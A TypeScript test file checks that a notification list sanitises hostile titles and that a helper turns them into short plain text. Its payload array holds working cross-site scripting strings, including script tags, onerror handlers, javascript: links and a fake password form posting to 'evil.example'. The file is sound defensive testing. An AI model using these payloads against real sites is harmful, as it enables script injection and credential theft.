import { screen } from '@testing-library/react'
import { expect, it, vi } from 'vitest'
import { TITLE_TAGS } from '#contract/entities/kernel/notification.ts'
import { NotificationItem } from '#src/layout/notifications/notification-item.tsx'
import { PanelContext } from '#src/layout/notifications/panel-context.ts'
import { toPlainText } from '#src/layout/notifications/words.ts'
import { HOSTILE_HTML } from '#tests/inputs/hostile-html.ts'
import { AWKWARD_TEXTS } from '#tests/inputs/texts.ts'
import { drawInShell } from '#tests/support/layout.tsx'
import { item } from './notification-app.tsx'

const payloads = [
  ...HOSTILE_HTML,
  ...AWKWARD_TEXTS,
  '<script>window.ran = true</script>',
  '<img src=x onerror="window.ran = true">',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<form action="//evil.example"><input name=password><button>Log in</button></form>',
  '<iframe srcdoc="<script>1</script>"></iframe><object data=x></object><embed src=x><base href=//evil.example>',
  '<style>* { display: none }</style><b style="position:fixed;inset:0" class="cover" id="root">x</b>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  `${'<b>'.repeat(500)}deep`,
  'x'.repeat(100_000),
  '\u202e\u2066\u200b\u0000',
]

function draw(titles: readonly string[]) {
  const parts = {
    items: [],
    read: vi.fn(),
    readAll: vi.fn(),
    zone: 'UTC',
    canOpen: () => true,
    close: vi.fn(),
  }
  return drawInShell(
    <PanelContext value={parts}>
      <ul>
        {titles.map((title, index) => (
          // oxlint-disable-next-line react/no-array-index-key -- the same payload may stand there twice
          <NotificationItem key={index} item={item(index, 'HR', { title, sub_title: title })} />
        ))}
      </ul>
    </PanelContext>,
  )
}

it('notification list: shows nothing from a title that runs, loads or covers the page', () => {
  const { container } = draw(payloads)
  const entries = container.querySelectorAll('li')
  expect(entries).toHaveLength(payloads.length)
  const titles = [...container.querySelectorAll('li > button:first-child > span:first-child')]
  expect(titles).toHaveLength(payloads.length)
  const inside = titles.flatMap((title) => [...title.querySelectorAll('*')])
  expect(
    inside
      .filter(({ localName }) => !(TITLE_TAGS as readonly string[]).includes(localName))
      .map((one) => one.outerHTML),
  ).toEqual([])
  // DOMPurify empties an `is` attribute that it cannot remove; an empty one is harmless.
  const attributes = inside.flatMap((one) => [...one.attributes].map(({ name, value }) => `${name}=${value}`))
  expect(attributes.filter((one) => one !== 'is=')).toEqual([])
  expect(
    container.querySelectorAll(
      'script, style, form, input, iframe, object, embed, img, math, a, base, link, meta',
    ),
  ).toHaveLength(0)
  expect(document.querySelectorAll('body script, head base')).toHaveLength(0)
  expect('ran' in window).toBe(false)
  expect(screen.getAllByRole('button', { name: 'Close' })).toHaveLength(payloads.length)
})

it('toPlainText: turns every title into one short line of plain text', () => {
  for (const title of payloads) {
    const words = toPlainText({ title, sub_title: '' })
    expect(words).not.toBe('')
    expect(words.length).toBeLessThanOrEqual(160)
    expect(words).not.toMatch(/[\n\t\u200b-\u200f\u202a-\u202e\u2066-\u2069]/)
  }
})

it.each<[string, string, string]>([
  ['<b>Unit 7</b>\n asks  $900', '', 'Unit 7 asks $900'],
  ['Tom &amp; Jerry &lt;b&gt;', '', 'Tom & Jerry <b>'],
  ['<br>', 'Akron to Chicago', 'Akron to Chicago'],
  ['', '', 'New notification'],
  ['x'.repeat(200), '', `${'x'.repeat(159)}…`],
  [`${'x'.repeat(158)}😀😀`, '', `${'x'.repeat(158)}\ufffd…`],
])('toPlainText: %s with %s becomes %s', (title, sub_title, words) =>
  expect(toPlainText({ title, sub_title })).toBe(words),
)
